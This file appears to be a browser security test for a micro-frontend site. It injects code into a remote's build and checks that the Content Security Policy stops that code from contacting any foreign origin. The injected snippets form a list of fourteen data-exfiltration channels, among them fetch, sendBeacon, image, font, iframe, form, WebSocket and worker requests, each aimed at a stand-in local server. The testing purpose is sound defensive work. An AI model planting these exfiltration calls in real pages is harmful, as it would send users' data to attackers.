import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { after, describe, test } from 'node:test';
import { pagePaths } from '@parchi/contract';
import { changeBuild } from '../../fixtures/remotes/changeBuild.ts';
import { closeServer, listen } from '../../fixtures/remotes/listen.ts';
import { openSiteWithRemote } from '../../fixtures/remotes/openSiteWithRemote.ts';
import { startVisit } from '../../pages/startVisit.ts';
import { waitForTakeOver } from '../../pages/waitForTakeOver.ts';

const NAME = 'remote-files';
const { browser, site, folder, origin, deploy } = await openSiteWithRemote(NAME);

const received: string[] = [];
const elsewhere = createServer((request, response) => {
  received.push(request.url ?? '');
  response.setHeader('Access-Control-Allow-Origin', '*');
  response.setHeader('Content-Type', 'text/javascript');
  response.end('self.isForeign = true');
});
const elsewhereOrigin = await listen(elsewhere);
after(() => closeServer(elsewhere));

/** Code that an attacker could add to a remote to send data away, each in another way. */
const ways: Readonly<Record<string, (address: string) => string>> = {
  fetch: (address) => `fetch('${address}').catch(() => {})`,
  'no-cors': (address) =>
    `fetch('${address}', { mode: 'no-cors', method: 'POST' }).catch(() => {})`,
  beacon: (address) => `navigator.sendBeacon('${address}', 'data')`,
  image: (address) => `new Image().src = '${address}'`,
  media: (address) => `new Audio('${address}').load()`,
  font: (address) => `new FontFace('x', 'url(${address})').load().catch(() => {})`,
  script: (address) =>
    `document.head.append(Object.assign(document.createElement('script'), { src: '${address}' }))`,
  style: (address) =>
    `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '${address}' }))`,
  prefetch: (address) =>
    `document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: '${address}' }))`,
  frame: (address) =>
    `document.body.append(Object.assign(document.createElement('iframe'), { src: '${address}' }))`,
  form: (address) =>
    `{ const form = Object.assign(document.createElement('form'), { action: '${address}', method: 'post', target: '_blank' }); document.body.append(form); form.submit(); }`,
  socket: (address) => `try { new WebSocket('${address.replace('http', 'ws')}') } catch {}`,
  events: (address) => `new EventSource('${address}')`,
  worker: (address) =>
    `new Worker(URL.createObjectURL(new Blob(["fetch('${address}', { mode: 'no-cors' }).catch(() => {})"])))`,
};

describe('code of a remote', () => {
  test('reaches no foreign origin by call, picture, font, script, frame, form or worker [F-242]', async () => {
    const copy = join(folder, 'telltale');
    const code = Object.entries(ways).map(([way, say]) => say(`${elsewhereOrigin}/${way}`));
    await changeBuild({
      name: NAME,
      to: copy,
      change: (file, content) =>
        file === 'remoteEntry.js'
          ? `${content};window.tell = () => {${code.join(';\n')}};`
          : content,
    });
    await deploy(copy);
    const { page, complaints, end } = await startVisit(browser, { expected: [/.*/] });
    await page.goto(site.origin + pagePaths.sendFile);
    await waitForTakeOver(page);
    await page.evaluate(() => (globalThis as unknown as { tell: () => void }).tell());
    await page.waitForTimeout(1_500);
    assert.deepEqual(received, []);
    const refused = complaints.filter((text) => /Content Security Policy/.test(text)).join('\n');
    // The message about a frame names the origin alone, and a worker's messages don't reach the page's console.
    const reported = Object.keys(ways).filter((way) => !['frame', 'worker'].includes(way));
    for (const way of reported) assert.match(refused, new RegExp(`/${way}\\b`));
    assert.match(refused, /Framing/);
    await end();
  });

  test('fetches nothing from its own origin that it does not announce [F-242]', async () => {
    const { page, end } = await startVisit(browser, { expected: [/Content Security Policy/] });
    await page.goto(site.origin + pagePaths.sendFile);
    await page.getByRole('heading', { name: 'Send files' }).waitFor();
    const outcome = await page.evaluate(
      (address) =>
        fetch(address).then(
          () => 'fetched',
          () => 'refused',
        ),
      `${origin.origin}/remote.json`,
    );
    assert.equal(outcome, 'refused');
    await end();
  });
});
